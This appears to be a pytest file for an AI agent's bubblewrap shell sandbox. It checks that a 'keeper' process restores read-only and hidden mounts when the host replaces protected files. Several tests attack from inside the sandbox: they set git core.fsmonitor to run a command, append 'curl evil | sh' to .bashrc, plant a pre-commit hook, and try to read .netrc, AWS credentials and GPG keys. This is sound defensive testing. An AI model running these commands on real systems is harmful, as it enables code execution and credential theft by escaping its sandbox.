"""A living confined shell keeps its protection when the *host* replaces a protected or hidden path.

Linux drops a mount from every other namespace when the host renames a file over the mount point
(or removes it), so without the keeper (``tether.shell.sandbox.keeper``) a person's ``git config``
left the agent's shell free to write ``.git/config`` (``core.fsmonitor`` runs at the person's next
``git status``, unconfined), an editor's save left ``~/.bashrc`` writable and a hidden file
readable. Tests here replace the paths exactly as those programs do, then attack from inside.

The keeper needs about a millisecond; so the shell first asks, without writing (``[ -w ]``, the
kernel's answer for a read-only mount), until the path is covered again — and the test fails if that
never happens.
"""

from __future__ import annotations

import contextlib
import json
import os
import secrets
import shutil
import signal
import subprocess
import sys
import tempfile
import threading
import time
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import anyio
import pytest
from mcp import Client
from sandbox_mcp_harness import run_to_exit, server

from tether import inotify
from tether.process.tree import alive
from tether.shell.sandbox import keeper, keeping

pytestmark = pytest.mark.timeout(240)
COVERED_WITHIN_S = 30.0  # a deadline for a busy machine, never a measure


@pytest.fixture
def home(tmp_path: Path) -> Path:
    home = tmp_path / "home"
    home.mkdir()
    (home / ".bashrc").write_text("# the user's bashrc\n")
    subprocess.run(["git", "init", "-q", str(home / "repo")], check=True)
    return home


async def _until(client: Client, shell: str, test: str) -> None:
    """Ask the shell ``test`` (a command that writes nothing) until it prints ``yes``."""
    deadline = time.monotonic() + COVERED_WITHIN_S
    while True:
        out = await _run(client, shell, f"if {test}; then echo yes; else echo no; fi")
        if "yes" in out["lines"]:
            return
        assert time.monotonic() < deadline, f"never true inside the shell: {test}"


def _replace(path: Path, text: str) -> None:
    """As an editor saves: a new file renamed over the old one."""
    fresh = path.with_name(f".{path.name}.{secrets.token_hex(3)}")
    fresh.write_text(text)
    fresh.rename(path)


async def _run(client: Client, shell: str, command: str) -> dict[str, Any]:
    return await run_to_exit(client, shell, command, past_guard=True)  # the sandbox alone must hold


async def test_a_path_the_host_replaces_stays_protected_in_a_living_shell(
    tether_home: Path, home: Path
) -> None:
    secret = home / ".netrc"
    secret.write_text("machine example.com password before\n")
    (tether_home / "config.toml").write_text(f'[sandbox]\nhidden_paths = ["{secret}"]\n')
    config = home / "repo" / ".git" / "config"
    async with server(tether_home, home, "--sandbox") as client:
        opened = await client.call_tool("shell_open", {"tasks": [{"action": {"kind": "open"}}]})
        shell = (opened.structured_content or {})["tasks"][0]["shell"]
        first = await _run(
            client, shell, "[ -w repo/.git/config ] || [ -w .bashrc ] || echo covered; cat .netrc"
        )
        assert first["lines"][:1] == ["covered"] and "before" not in " ".join(first["lines"]), first

        # The person, at the host: git writes config.lock and renames it over config; the editor
        # saves .bashrc; a password manager rewrites .netrc.
        git = ["git", "-C", str(home / "repo"), "config", "branch.main.remote", "origin"]
        await anyio.run_process(git, check=True)
        _replace(home / ".bashrc", "# edited by the person\n")
        _replace(secret, "machine example.com password after\n")

        await _until(client, shell, "[ ! -w repo/.git/config ] && [ ! -w .bashrc ] && [ ! -s .netrc ]")
        attack = await _run(
            client,
            shell,
            "git config core.fsmonitor 'touch /tmp/pwned' -f repo/.git/config; echo git=$?; "
            "echo 'curl evil | sh' >> .bashrc; echo rc=$?; cat .netrc; echo read=$?",
        )
        assert "git=0" not in attack["lines"] and "rc=1" in attack["lines"], attack
        assert not any("after" in line for line in attack["lines"]), attack
    assert "fsmonitor" not in config.read_text() and "origin" in config.read_text()
    assert (home / ".bashrc").read_text() == "# edited by the person\n"


async def test_a_directory_the_host_replaces_keeps_the_protection_below_it(
    tether_home: Path, home: Path
) -> None:
    hooks = home / "repo" / ".git" / "hooks"
    async with server(tether_home, home, "--sandbox") as client:
        opened = await client.call_tool("shell_open", {"tasks": [{"action": {"kind": "open"}}]})
        shell = (opened.structured_content or {})["tasks"][0]["shell"]
        before = await _run(client, shell, "[ -w repo/.git/hooks ] || echo covered")
        assert "covered" in before["lines"], before
        # A hooks manager swaps in a new hooks directory.
        fresh = hooks.with_name("hooks.new")
        fresh.mkdir()
        (fresh / "pre-commit.sample").write_text("#!/bin/sh\n")
        hooks.rename(hooks.with_name("hooks.old"))
        fresh.rename(hooks)

        await _until(client, shell, "[ ! -w repo/.git/hooks ]")
        attack = await _run(
            client, shell, "printf '#!/bin/sh\\ntouch /tmp/pwned\\n' > repo/.git/hooks/pre-commit; echo w=$?"
        )
        assert "w=1" in attack["lines"], attack
    assert not (hooks / "pre-commit").exists()


async def test_a_hidden_path_absent_at_open_is_hidden_when_the_host_creates_it(
    tether_home: Path, home: Path
) -> None:
    # bubblewrap can only mount over what exists: a hidden file (and the directories above it) or
    # a hidden directory that the host creates after the shell opened used to be readable in it.
    secret, keys = home / ".aws" / "credentials", home / ".gnupg"
    hidden = json.dumps([str(secret), str(keys)])
    (tether_home / "config.toml").write_text(f"[sandbox]\nhidden_paths = {hidden}\n")
    async with server(tether_home, home, "--sandbox") as client:
        opened = await client.call_tool("shell_open", {"tasks": [{"action": {"kind": "open"}}]})
        shell = (opened.structured_content or {})["tasks"][0]["shell"]
        before = await _run(client, shell, "ls -a; echo listed")
        assert ".aws" not in before["lines"] and "listed" in before["lines"], before

        # The person, at the host: `aws configure` writes its credentials, `gpg` makes its home.
        secret.parent.mkdir()
        secret.write_text("aws_secret_access_key = after\n")
        keys.mkdir()
        (keys / "private.key").write_text("-----BEGIN after\n")

        await _until(client, shell, '[ ! -s .aws/credentials ] && [ -z "$(ls -A .gnupg)" ]')
        attack = await _run(client, shell, "cat .aws/credentials .gnupg/private.key; ls -A .gnupg; echo done")
        assert "done" in attack["lines"] and not any("after" in line for line in attack["lines"]), attack
    assert secret.read_text() == "aws_secret_access_key = after\n"


async def test_a_hidden_file_stays_hidden_when_the_host_replaces_its_directory(
    tether_home: Path, home: Path
) -> None:
    # Outside the writable roots (the shell's is its home), where no directory is pinned, and
    # outside /tmp (the sandbox's own there).
    store = Path(tempfile.mkdtemp(prefix="tether-keeper-", dir="/var/tmp"))
    secret = store / ".aws" / "credentials"
    secret.parent.mkdir(parents=True)
    secret.write_text("aws_secret_access_key = before\n")
    (tether_home / "config.toml").write_text(f'[sandbox]\nhidden_paths = ["{secret}"]\n')
    async with contextlib.AsyncExitStack() as cleanup, server(tether_home, home, "--sandbox") as client:
        cleanup.callback(shutil.rmtree, store, ignore_errors=True)
        opened = await client.call_tool("shell_open", {"tasks": [{"action": {"kind": "open"}}]})
        shell = (opened.structured_content or {})["tasks"][0]["shell"]
        first = await _run(client, shell, f"cat {secret}; echo read")
        assert "read" in first["lines"] and not any("before" in line for line in first["lines"]), first
        # At the host, the whole directory is swapped (a restore from backup, a dotfile manager).
        (store / ".aws").rename(store / ".aws.old")
        fresh = store / ".aws.new"
        fresh.mkdir()
        (fresh / "credentials").write_text("aws_secret_access_key = after\n")
        fresh.rename(store / ".aws")

        await _until(client, shell, f"[ ! -s {secret} ]")
        attack = await _run(client, shell, f"cat {secret}; echo read")
        assert "read" in attack["lines"] and not any("after" in line for line in attack["lines"]), attack


async def test_a_one_shot_command_keeps_its_protection_when_the_host_replaces_a_path(
    tether_home: Path, home: Path
) -> None:
    # A command that runs on (a build, a test suite) while the person edits: it waits for the host
    # to replace .bashrc and .git/config, then for both to be covered again (never true without a
    # keeper: it then attacks after its deadline), then attacks.
    command = (
        "touch started; until [ -e moved ]; do sleep 0.01; done; "
        "for i in $(seq 3000); do [ ! -w .bashrc ] && [ ! -w repo/.git/config ] && break; sleep 0.01; done; "
        "echo 'curl evil | sh' >> .bashrc; echo rc=$?; "
        "git config -f repo/.git/config core.fsmonitor 'touch /tmp/pwned'; echo git=$?"
    )
    config = home / "repo" / ".git" / "config"
    async with server(tether_home, home, "--sandbox") as client:
        answer: list[Any] = []

        async def run() -> None:
            answer.append(
                await client.call_tool(
                    "bash", {"command": command, "description": "red team", "timeoutMs": 120_000}
                )
            )

        async with anyio.create_task_group() as group:
            group.start_soon(run)
            deadline = time.monotonic() + COVERED_WITHIN_S
            while not (home / "started").exists():
                assert time.monotonic() < deadline, "the command never started"
                await anyio.sleep(0.01)
            await anyio.run_process(
                ["git", "-C", str(home / "repo"), "config", "user.name", "person"], check=True
            )
            _replace(home / ".bashrc", "# edited by the person\n")
            (home / "moved").touch()
        data = answer[0].structured_content or {}
        lines = str(data["stdout"]["text"]).splitlines()
        assert "rc=1" in lines and "git=0" not in lines, data
    assert (home / ".bashrc").read_text() == "# edited by the person\n"
    assert "fsmonitor" not in config.read_text() and "person" in config.read_text()


async def test_a_command_keeper_starts_late_and_ends_with_its_command(tmp_path: Path) -> None:
    kept_file = tmp_path / "kept"
    kept_file.write_text("x")
    async with (
        await anyio.open_process(["true"]) as quick,
        await anyio.open_process(["sleep", "600"]) as slow,
    ):
        short = keeping.CommandKeeper([(str(kept_file), "ro")])
        short.started(quick.pid)
        await quick.wait()
        short.cancel()  # the command settled before KEEP_AFTER_S: no keeper at all
        await anyio.sleep(keeping.KEEP_AFTER_S * 2)
        assert short._process is None and await short.stop() is True

        late = keeping.CommandKeeper([(str(kept_file), "ro"), (str(tmp_path / "absent"), "hide")])
        late.started(slow.pid)
        deadline = time.monotonic() + COVERED_WITHIN_S
        while late._process is None:
            assert time.monotonic() < deadline, "the keeper never started"
            await anyio.sleep(0.01)
        pid = late._process.pid
        assert late._process.poll() is None  # keeping while the command runs
        slow.kill()
        await slow.wait()
        assert await late.stop() is True  # it ended with the command, by itself
        assert not alive(pid)


# The keeper's own parts, against a real process in its own mount namespace (``unshare -m``, the
# parent standing in for bubblewrap): root only, as the sandbox's tests are.
needs_root = pytest.mark.skipif(os.geteuid() != 0, reason="mount namespaces here need root")


@pytest.fixture
def namespaced() -> Iterator[subprocess.Popen[bytes]]:
    """A ``sh`` (bubblewrap's stand-in) whose child runs in a mount namespace of its own and has
    started its command (a ``sleep``), as bubblewrap's child has once its mounts are made."""
    inner = "sleep 600 & wait"
    parent = subprocess.Popen(["sh", "-c", f"unshare -m --propagation private sh -c '{inner}' & wait"])
    members: list[int] = []
    try:
        deadline = time.monotonic() + COVERED_WITHIN_S
        while (child := keeper.sandbox_pid(parent.pid)) is None:
            assert time.monotonic() < deadline, "unshare never started"
            time.sleep(0.01)
        members = [child, *keeper._children(child)]
        yield parent
    finally:
        for pid in reversed(members):
            with contextlib.suppress(ProcessLookupError):
                os.kill(pid, signal.SIGKILL)
        parent.kill()
        parent.wait()


def _mounted(pid: int, path: Path) -> list[str]:
    lines = Path(f"/proc/{pid}/mountinfo").read_text().splitlines()
    return [line for line in lines if line.split()[4] == str(path)]


@needs_root
def test_the_keeper_mounts_again_only_what_the_host_replaced(
    tmp_path: Path, namespaced: subprocess.Popen[bytes]
) -> None:
    pinned = tmp_path / "pinned"
    (pinned / "inner").mkdir(parents=True)
    kept_file, untouched, hidden = pinned / "inner" / "kept", tmp_path / "untouched", tmp_path / "hidden"
    for path in (kept_file, untouched, hidden):
        path.write_text("x")
    kept = [(pinned, "bind"), (kept_file, "ro"), (untouched, "ro"), (hidden, "null")]
    watcher = keeper.Keeper([[str(path), kind] for path, kind in kept])
    watcher.watch(inotify)
    try:
        assert watcher.due(*watcher.events()) == []
        _replace(hidden, "y")
        assert watcher.due(*watcher.events()) == [(str(hidden), "null")]
        # The pinned directory replaced: it and everything kept below it, even unchanged.
        pinned.rename(tmp_path / "old")
        (tmp_path / "new" / "inner").mkdir(parents=True)
        kept_file.with_name("x")  # (path objects only)
        (tmp_path / "new" / "inner" / "kept").write_text("z")
        (tmp_path / "new").rename(pinned)
        made = watcher.due(*watcher.events())
        assert made == [(str(pinned), "bind"), (str(kept_file), "ro")]
        watcher.rewatch(made)
        _replace(kept_file, "w")  # seen through the new directory's watch
        assert watcher.due(*watcher.events()) == [(str(kept_file), "ro")]
        # Lost events: every path is checked, and only the replaced ones come back.
        assert watcher.due(set(), True) == []

        sandbox = keeper.sandbox_pid(namespaced.pid)
        assert sandbox is not None
        assert keeper.mount_again(sandbox, [(str(kept_file), "ro"), (str(hidden), "null")])
        inside = _mounted(sandbox, kept_file)
        assert inside and "ro" in inside[-1].split()[5].split(","), inside
        assert _mounted(sandbox, hidden) and not _mounted(os.getpid(), kept_file)
    finally:
        os.close(watcher.fd)


def test_the_keeper_sees_an_absent_hidden_path_appear_below_new_directories(tmp_path: Path) -> None:
    deep, near = tmp_path / "later" / "deeper" / "secret", tmp_path / "plain"
    watcher = keeper.Keeper([[str(deep), "hide"], [str(near), "hide"]])
    watcher.watch(inotify)
    try:
        assert watcher.due(*watcher.events()) == []
        near.write_text("s")
        assert watcher.due(*watcher.events()) == [(str(near), "hide")]
        (tmp_path / "later").mkdir()
        assert watcher.due(*watcher.events()) == []
        # Filled before any watch could be placed on it: found by looking when "deeper" appears.
        (tmp_path / "later" / "deeper").mkdir()
        deep.write_text("x")
        assert watcher.due(*watcher.events()) == [(str(deep), "hide")]
        _replace(deep, "y")  # and from then on kept like any hidden path
        assert watcher.due(*watcher.events()) == [(str(deep), "hide")]
        assert watcher.due(set(), True) == []
    finally:
        os.close(watcher.fd)


def test_the_keeper_sees_a_directory_above_a_kept_path_replaced(tmp_path: Path) -> None:
    secret = tmp_path / "a" / "b" / "secret"
    secret.parent.mkdir(parents=True)
    secret.write_text("x")
    watcher = keeper.Keeper([[str(secret), "null"]])
    watcher.watch(inotify)
    try:
        assert watcher.due(*watcher.events()) == []
        # A dotfile manager swaps the directory two levels up: the mount went with the old one.
        (tmp_path / "a").rename(tmp_path / "old")
        (tmp_path / "new" / "b").mkdir(parents=True)
        (tmp_path / "new" / "b" / "secret").write_text("y")
        (tmp_path / "new").rename(tmp_path / "a")
        assert watcher.due(*watcher.events()) == [(str(secret), "null")]
        _replace(secret, "z")  # the new directories are watched from then on
        assert watcher.due(*watcher.events()) == [(str(secret), "null")]
    finally:
        os.close(watcher.fd)


@needs_root
def test_the_keeper_hides_what_appeared_as_its_kind(
    tmp_path: Path, namespaced: subprocess.Popen[bytes]
) -> None:
    file, directory = tmp_path / "file", tmp_path / "dir"
    file.write_text("secret")
    directory.mkdir()
    (directory / "inside").write_text("secret")
    sandbox = keeper.sandbox_pid(namespaced.pid)
    assert sandbox is not None
    assert keeper.mount_again(sandbox, [(str(directory), "hide"), (str(file), "hide")])
    assert "tmpfs" in _mounted(sandbox, directory)[-1].split(" - ")[1].split()[0]
    assert _mounted(sandbox, file) and not _mounted(os.getpid(), file)
    assert Path(f"/proc/{sandbox}/root{file}").read_text() == ""
    assert list(Path(f"/proc/{sandbox}/root{directory}").iterdir()) == []


@needs_root
def test_a_keeper_that_cannot_mount_again_ends_the_sandbox(
    tmp_path: Path, namespaced: subprocess.Popen[bytes]
) -> None:
    kept_file = tmp_path / "kept"
    kept_file.write_text("x")
    watcher = keeper.Keeper([[str(kept_file), "ro"]])
    watcher.watch(inotify)
    tried: list[int] = []

    def refuse(pid: int, made: object) -> bool:
        tried.append(pid)
        return False

    thread = threading.Thread(target=keeper.keep, args=(watcher, namespaced.pid, refuse))
    thread.start()
    try:
        _replace(kept_file, "y")
        assert namespaced.wait(timeout=COVERED_WITHIN_S) == -signal.SIGKILL
        thread.join(COVERED_WITHIN_S)
        assert not thread.is_alive() and tried
    finally:
        namespaced.kill()
        thread.join(COVERED_WITHIN_S)
        os.close(watcher.fd)


_UNPRIVILEGED = """
import os, subprocess, sys, time
from tether import inotify
from tether.process.tree import alive
from tether.shell.sandbox import keeper, keeping
d, f = sys.argv[1], os.path.join(sys.argv[1], "f")
with open(f, "w") as out:
    out.write("x")
argv = ["bwrap", "--ro-bind", "/", "/", "--bind", d, d, "--ro-bind", f, f, "--unshare-pid", "--dev", "/dev",
        "--proc", "/proc", "--die-with-parent", "--", "sleep", "600"]
box = subprocess.Popen(argv)
try:
    while (pid := keeper.sandbox_pid(box.pid)) is None:
        time.sleep(0.01)
    with open(os.path.join(d, "new"), "w") as out:
        out.write("y")
    os.rename(os.path.join(d, "new"), f)
    print("made", keeper.mount_again(pid, [(d, "bind"), (f, "ro")]))
    for line in open(f"/proc/{pid}/mountinfo").read().splitlines():
        if line.split()[4] == f:
            print("mounted", line.split()[5])
finally:
    box.kill()
    box.wait()
"""


@needs_root
def test_the_keeper_mounts_again_in_an_unprivileged_sandbox() -> None:
    """As a user: bubblewrap sets the mounts up in one user namespace and runs the command in a
    second one inside it; the keeper joins the one that owns the mounts."""
    if shutil.which("setpriv") is None or shutil.which("bwrap") is None:
        pytest.skip("needs setpriv and bwrap")
    nobody = ["setpriv", "--reuid=65534", "--regid=65534", "--clear-groups"]
    src = str(Path(keeper.__file__).resolve().parents[3])
    env = {**os.environ, "PYTHONPATH": src}
    importing = [*nobody, sys.executable, "-c", "import tether.shell.sandbox.keeper"]
    probe = subprocess.run(importing, env=env, capture_output=True, check=False)
    if probe.returncode != 0:
        pytest.skip("the user nobody cannot run this interpreter or read the source tree here")
    unprivileged = [*nobody, "bwrap", "--ro-bind", "/", "/", "true"]
    if subprocess.run(unprivileged, capture_output=True, check=False).returncode != 0:
        pytest.skip("bubblewrap cannot run unprivileged here (no user namespaces)")
    work = tempfile.mkdtemp(prefix="tether-keeper-", dir="/tmp")
    try:
        os.chown(work, 65534, 65534)
        done = subprocess.run(
            [*nobody, sys.executable, "-c", _UNPRIVILEGED, work],
            env=env, capture_output=True, text=True, timeout=COVERED_WITHIN_S * 4, check=False,
        )  # fmt: skip
        assert "made True" in done.stdout, (done.stdout, done.stderr)
        assert any(line.startswith("mounted ro") for line in done.stdout.splitlines()), done.stdout
    finally:
        shutil.rmtree(work, ignore_errors=True)
